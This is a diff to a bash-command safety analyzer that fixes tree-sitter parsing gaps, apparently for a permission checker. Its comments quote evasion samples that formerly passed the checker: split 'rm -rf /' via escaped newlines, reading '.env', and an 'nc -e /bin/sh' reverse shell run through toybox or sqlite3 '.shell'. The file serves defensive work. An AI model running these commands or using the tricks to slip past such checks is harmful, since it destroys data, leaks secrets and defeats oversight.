@@ -259,6 +259,26 @@ def _ssh_operands(args: list[str]) -> list[str]:
     return []
 
 
+def _lone_dollar(node) -> bool:
+    """A ``$`` token the grammar left alone is the text ``$`` unless a quoted string
+    touches it (``$"..."``, a translated string the grammar splits in two)."""
+    nxt = node.next_sibling
+    return nxt is None or nxt.start_byte > node.end_byte or nxt.text[:1] not in (b'"', b"'")
+
+
+def _dollar_token(text: str, node=None) -> _Word:
+    """A ``$`` token the grammar keeps as is: ``$`` is text, ``$$`` the shell's pid (and
+    so is a ``$`` touching a ``$"..."``: bash reads ``$$"x"`` as the pid, then ``"x"``)."""
+    nxt = node.next_sibling if node is not None else None
+    touching = nxt.text[:1] if nxt is not None and nxt.start_byte == node.end_byte else b""
+    if text == "$" and touching and touching != b"$" and (touching.isalnum() or touching in b"_@*#?!-{("):
+        # $ then a name the grammar split off ("a"$x\ b): bash expands it; not sure what
+        raise _Unparseable(ERR_SYNTAX)
+    if text == "$" and touching != b"$":
+        return _Word(value="$")
+    return _Word(value=text, dynamic=True, exact=False, bare_subst=True)
+
+
 def _static(value: str) -> _Word:
     return _Word(value=value)
 
@@ -406,6 +426,129 @@ def _heredoc_as_dq(body: str) -> str:
     return "".join(out)
 
 
+_ESCAPED_BLANK = re.compile(rb"\\[ \t\n]")
+# where a backslash and a blank are literal text or a comment's: left as written
+_BLANK_KEPT = frozenset({"string", "raw_string", "ansi_c_string", "comment",
+                         "heredoc_body", "heredoc_content", "heredoc_start", "heredoc_end"})
+_BLANK_SUBST = frozenset({"command_substitution", "process_substitution"})
+
+
+def _escaped_blanks(source: bytes, root) -> bytes | None:
+    """The source with the escaped blanks the grammar skips written as bash reads them,
+    or None when there are none. tree-sitter-bash skips a backslash and any blank
+    between tokens, as if it were a line continuation: bash joins ``r\\<newline>m`` into
+    ``rm`` (the grammar read the words ``r`` and ``m``: ``r\\<newline>m -rf /`` was an
+    unknown command, allowed in bypass; ``cat .e\\<newline>nv`` read ``.e`` and ``nv``), and
+    ``\\<space>``/``\\<tab>`` at a word's start is a quoted blank (``echo \\ `` prints one
+    space). A continuation between two non-blanks is removed, an escaped space or tab the
+    grammar skipped becomes a quoted one; inside quotes, comments and here-documents
+    nothing changes (the analysis of their text handles its own)."""
+    edits = []
+    n = len(source)
+    for m in _ESCAPED_BLANK.finditer(source):
+        off = m.start()
+        node = root.descendant_for_byte_range(off, off + 1)
+        if node is None or node.child_count == 0:
+            continue   # inside one token (a word's own escape, a comment, a quoted string)
+        kept = False
+        p = node
+        while p is not None:
+            if p.type in _BLANK_KEPT:
+                kept = True
+                break
+            if p.type in _BLANK_SUBST:
+                break
+            p = p.parent
+        if kept:
+            continue
+        blank = source[off + 1:off + 2]
+        if blank != b"\n" and off and source[off - 1:off] == b"$":
+            d = root.descendant_for_byte_range(off - 1, off)
+            if d is not None and d.type == "$" and d.start_byte == off - 1 and d.end_byte == off:
+                # $\<blank>: a lone $ then a quoted blank (the grammar read $\ a as $a)
+                edits.append((off - 1, off + 2, b"'$" + blank + b"'"))
+                continue
+        if blank == b"\n":
+            # a run of continuations joins what is before and after it into one word
+            start, end = off, off + 2
+            while start >= 2 and source[start - 2:start] == b"\\\n":
+                start -= 2
+            while source[end:end + 2] == b"\\\n":
+                end += 2
+            if start == 0 or end >= n or source[end:end + 1] in b" \t\n":
+                continue   # a continuation before a blank: a blank to both readers
+            if source[start - 1:start] in b" \t\n":
+                k = start - 1
+                while k and source[k - 1:k] == b"\\":
+                    k -= 1
+                if (start - 1 - k) % 2 == 0:
+                    continue   # after a blank (not an escaped one): a blank to both
+            edits.append((off, off + 2, b""))
+        else:
+            edits.append((off, off + 2, b"'" + blank + b"'"))
+    return _apply_edits(source, edits)
+
+
+# a backslash just after a quote, a substitution's or an expansion's end (prefilter)
+_ESCAPE_AFTER_PART = re.compile(rb"[\"'`)}$]\\|\$[\w@*#?!$-]+\\")
+
+
+def _split_escapes(source: bytes, root) -> bytes | None:
+    """The source with a word part that starts with a backslash and touches the part
+    before it written quoted, or None when there is none. tree-sitter-bash ends a
+    word at a quoted string, an expansion or a substitution when a backslash follows
+    it and starts another word there: ``cat ".e"\\nv`` read ``.e`` and ``nv`` where
+    bash reads ``.env`` (read-only, allowed everywhere), ``"r"\\m -rf /`` was an
+    unknown command ``r``. ``\\X`` becomes ``'X'`` (``"'"`` for a quote): one word."""
+    edits = []
+    for m in _ESCAPE_AFTER_PART.finditer(source):
+        off = m.end() - 1
+        node = root.descendant_for_byte_range(off, off + 1)
+        if node is None or node.type != "word" or node.start_byte != off:
+            continue
+        prev = node.prev_sibling
+        if prev is None or prev.end_byte != off or (prev.type not in _WORD_TYPES and prev.type not in ("$", "command_name")):
+            continue
+        nxt = source[off + 1:off + 2]
+        if not nxt or nxt in b" \t\n":
+            continue
+        size = 1
+        lead = nxt[0]
+        if lead >= 0xF0:
+            size = 4
+        elif lead >= 0xE0:
+            size = 3
+        elif lead >= 0xC0:
+            size = 2
+        ch = source[off + 1:off + 1 + size]
+        quoted = b'"\'"' if ch == b"'" else b"'" + ch + b"'"
+        if source[off - 1:off] == b"$":
+            if prev.end_byte - prev.start_byte != 1:
+                continue   # ($$\x: the pid, then x; the word check refuses it)
+            # a lone $ then the escape (the grammar may call it an expansion with no
+            # name): $'X' would be an ANSI-C string, so the $ is quoted too
+            edits.append((off - 1, off + 1 + size, b"'$'" + quoted))
+            continue
+        edits.append((off, off + 1 + size, quoted))
+    return _apply_edits(source, edits)
+
+
+def _apply_edits(source: bytes, edits: list) -> bytes | None:
+    if not edits:
+        return None
+    edits.sort()
+    out = []
+    pos = 0
+    for a, b, rep in edits:
+        if a < pos:
+            continue
+        out.append(source[pos:a])
+        out.append(rep)
+        pos = b
+    out.append(source[pos:])
+    return b"".join(out)
+
+
 def _parse_lines(text: str):
     """(text, tree). tree-sitter-bash sometimes joins a line to the simple command of the
     line before (``a | b | c`` + newline + ``d && e`` parses as ``c d``). Such a newline
@@ -420,6 +563,23 @@ def _parse_lines(text: str):
         text += "\n"
     source = _source_bytes(text)
     tree = _parser().parse(source)
+    if b"\\" in source:
+        # (each pass can uncover the other's case: "a"\\\ x, "a"\\<newline>\\b)
+        for _ in range(3):
+            changed = False
+            if _ESCAPED_BLANK.search(source) is not None:
+                fixed = _escaped_blanks(source, tree.root_node)
+                if fixed is not None:
+                    source, changed = fixed, True
+                    tree = _parser().parse(source)
+            if _ESCAPE_AFTER_PART.search(source) is not None:
+                fixed = _split_escapes(source, tree.root_node)
+                if fixed is not None:
+                    source, changed = fixed, True
+                    tree = _parser().parse(source)
+            if not changed:
+                break
+        text = source.decode("utf-8", "surrogatepass")
     for _ in range(4):
         if not tree.root_node.has_error:
             break
@@ -1623,6 +1783,22 @@ _SYSTEM_PROGRAM = re.compile(r"/(?:usr/(?:local/)?)?s?bin/[^/]+|/opt/homebrew/bi
 # (bin/rails), its gradle or maven wrapper (the build's trust: they run the project's code)
 _PROJECT_TOOL = re.compile(r"^(?!(?:.*/)?\.\.(?:/|$))(?:\./)?(?:[\w.-]+/)*(?:(?:\.?venv|env|\.tox/[\w.-]+)/bin/[\w.-]+|node_modules/\.bin/[\w.-]+"
                            r"|(?:vendor/)?bin/[\w.-]+|gradlew|mvnw)$")
+
+
+# an interpreter installed under its version (python3.11, lua5.4, php8.2, perl5.36,
+# ruby3.2, tclsh8.6): the same program, its code options read the same way
+_VERSIONED_PROGRAM = re.compile(r"(python[23]|pypy3?|perl|ruby|php|lua|luajit|node|tclsh|wish|irb|jruby)"
+                                r"[-.]?\d+(?:\.\d+)*")
+
+
+def _program_name(name: str) -> str:
+    if name == "toybox":
+        return "busybox"   # (the other multi-call binary: toybox nc -e sh h p is busybox's)
+    if name[-1:].isdigit():
+        m = _VERSIONED_PROGRAM.fullmatch(name)
+        if m is not None:
+            return m.group(1)
+    return name
 
 
 def _basename(name: str) -> str:
@@ -3007,7 +3183,8 @@ class _Analyzer:
             return self.dq_string(node, ctx)
         if t == "concatenation":
             children = node.children
-            parts = [self.word(c, ctx) for c in children if c.is_named or c.type == "ERROR"]
+            parts = [self.word(c, ctx) if c.type != "$" else _dollar_token(self._t(c), c)
+                     for c in children if c.is_named or c.type == "ERROR" or (c.type == "$" and _lone_dollar(c))]
             for c in children:
                 if c.type == "ERROR":
                     raise _Unparseable(ERR_SYNTAX)
@@ -3081,13 +3258,20 @@ class _Analyzer:
         exact = True
         fetch = False
         last = node.child_count - 1
+        prev_end = -1
         for i, child in enumerate(node.children):
             t = child.type
+            if prev_end >= 0 and child.start_byte > prev_end:
+                # text between two parts that no node holds: the grammar skips a newline
+                # inside the quotes as blank ("echo a<newline>rm -rf /" is two lines to
+                # bash -c, never "echo arm -rf /"); it is literal text, as string_content is
+                parts.append(_unescape_dq(self._gap(node, prev_end, child.start_byte)))
+            prev_end = child.end_byte
             if t == '"' or t == '$"':
                 if i and i == last and child.end_byte - child.start_byte > 1:
                     # blanks before the closing quote that no string_content holds: the
                     # grammar's token is ' "' (a" "y/f is "a y/f", never "ay/f"; "x  ")
-                    parts.append(self._t(child)[:-1])
+                    parts.append(_unescape_dq(self._t(child)[:-1]))
                 continue
             if t == "string_content":
                 parts.append(_unescape_dq(self._t(child)))
@@ -3097,7 +3281,7 @@ class _Analyzer:
             elif child.is_named:
                 w = self.word(child, ctx)
             else:
-                parts.append(self._t(child))
+                parts.append(_unescape_dq(self._t(child)))
                 continue
             parts.append(w.value.translate(_UNMAP))
             dynamic = dynamic or w.dynamic
@@ -3453,8 +3637,19 @@ class _Analyzer:
             if redirs:
                 return self.redirected_compound(kids[1], redirs, self._t(node), ctx, stdin)
             return self.stmt(kids[1], ctx, stdin)
+        word_end = -1
         for child in kids:
             t = child.type
+            if t in _WORD_TYPES or t == "command_name" or t == "$":
+                if child.start_byte == word_end and not (lbrace_end >= 0 and child.start_byte == lbrace_end) \
+                        and not (t in ("string", "concatenation") and self._t(child)[:1] == '"'
+                                 and kids[kids.index(child) - 1].type == "$"):
+                    # two parts with no blank between are one word to bash; the grammar
+                    # split them (a $ before a word whose backslash it misread): not sure
+                    raise _Unparseable(ERR_SYNTAX)
+                word_end = child.end_byte
+            else:
+                word_end = -1
             if lbrace_end >= 0 and child.start_byte == lbrace_end and words and t in _WORD_TYPES:
                 # "{" then, touching it, "`cmd`/x,y}": a brace expansion the grammar split
                 # because of the substitution in it; bash expands the braces first. What
@@ -3508,6 +3703,9 @@ class _Analyzer:
                     redirs[-1].fd = int(self._t(prev))
             elif t in _WORD_TYPES:
                 words.extend(self.words(child, ctx))
+            elif t == "$" and _lone_dollar(child):
+                # a lone $ before a blank is the text $ to bash (rm -rf $ removes ./$)
+                words.append(_dollar_token(self._t(child), child))
             elif t == "comment":
                 continue
             elif t == "ERROR" or child.is_missing:
@@ -3651,7 +3849,7 @@ class _Analyzer:
             w0 = argv[0]
             if w0.exact:
                 v0 = w0.value
-                nm = _basename(v0) if "/" in v0 else v0
+                nm = _program_name(_basename(v0) if "/" in v0 else v0)
                 verbs = _RUNNER_VERBS.get(nm)
                 # a runner (npm, uv...) is a wrapper only before its run verb (npm exec, uv run...;
                 # its own options may come first: pnpm -r exec, uv --directory x run)
@@ -3683,7 +3881,7 @@ class _Analyzer:
                 env.append((n, _Word(value=val, dynamic=w0.dynamic)))
                 argv = argv[1:]
                 continue
-            name = _basename(w0.value)
+            name = _program_name(_basename(w0.value))
             if name not in _UNWRAP_NAMES:
                 break  # not a wrapper: record() does the rest (language included)
             if "/" in w0.value:
@@ -4572,7 +4770,7 @@ class _Analyzer:
         w0_exact = w0.exact
         if w0_exact and not w0.quoted and v0 in _RESERVED:
             raise _Unparseable(ERR_SYNTAX)  # bash itself would refuse it; tree-sitter is lenient
-        name = (_basename(v0) if "/" in v0 else v0) if w0_exact else v0
+        name = _program_name(_basename(v0) if "/" in v0 else v0) if w0_exact else v0
         if w0_exact and "/" in v0:
             self.program_path(v0, name)
         if (self.fetched or self.fetched_trees) and w0_exact:
@@ -5648,6 +5846,25 @@ class _Analyzer:
         if name in C.SQL_CLIENTS or (name in C.CONTAINER_RUNTIMES | {"kubectl"} and vals[:1] == ["exec"] and any(
                 posixpath.basename(v) in C.SQL_CLIENTS for v in vals[1:])):
             self.sql_client(vals, stdin, part)   # (docker exec -i db psql <<EOF: the container's psql reads it)
+            if name in ("sqlite3", "duckdb"):
+                self.sqlite_shell(vals, stdin, ctx)
+
+    def sqlite_shell(self, vals: list[str], stdin: _Stream | None, ctx: _Ctx) -> None:
+        """sqlite3's (and duckdb's) ``.shell CMD`` / ``.system CMD`` run CMD in a shell
+        (``sqlite3 x.db '.shell nc -e /bin/sh h p'`` was an unknown program, allowed in
+        bypass): CMD's catastrophic and dangerous findings count as if it ran."""
+        texts = list(vals)
+        if stdin is not None and stdin.text:
+            texts.append(stdin.text)
+        for t in texts:
+            if ".s" not in t or len(t) > 100_000:
+                continue
+            for line in t.split("\n"):
+                line = line.strip()
+                if line.startswith((".shell", ".system")):
+                    cmd = line.split(None, 1)
+                    if len(cmd) == 2 and cmd[0] in (".shell", ".system"):
+                        self.probe_code(cmd[1], ctx, "sqlite3")
 
     def sql_client(self, vals: list[str], stdin: _Stream | None, part: str) -> None:
         """A database client's SQL: its words and the statements it reads (psql <<EOF,
